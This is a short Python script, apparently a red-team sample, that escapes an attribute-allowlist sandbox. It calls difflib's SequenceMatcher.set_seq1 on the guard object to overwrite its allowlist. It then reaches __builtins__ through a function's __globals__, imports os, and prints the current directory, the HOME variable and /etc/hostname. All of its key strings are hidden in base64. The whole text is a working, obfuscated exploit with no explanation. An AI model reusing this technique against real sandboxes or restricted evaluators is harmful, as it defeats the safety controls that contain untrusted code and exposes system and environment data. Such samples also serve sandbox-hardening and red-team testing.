# family: red team, round 57a (alias K.set_seq1(r, names) on a tool object at module level; getattr guarded by the class tuple runs any code)
import base64
import difflib

K = difflib.SequenceMatcher


class Reader:
    a = ("real", "imag")

    def get(self, thing, name):
        if name in self.a:
            return getattr(thing, name)
        return None


def probe():
    return 1


def d(text):
    return base64.b64decode(text).decode()


glob, built, imp, env, cwd = (d(x) for x in ("X19nbG9iYWxzX18=", "X19idWlsdGluc19f", "X19pbXBvcnRfXw==", "ZW52aXJvbg==", "Z2V0Y3dk"))
r = Reader()
K.set_seq1(r, (glob, imp, env, cwd, d("b3Blbg==")))
g = r.get(probe, glob)
b = g[built]
o = r.get(b, imp)(d("b3M="))
print(o)
print(r.get(o, cwd)())
print(r.get(o, env)[d("SE9NRQ==")])
print(r.get(b, d("b3Blbg=="))(d("L2V0Yy9ob3N0bmFtZQ==")).read().strip())
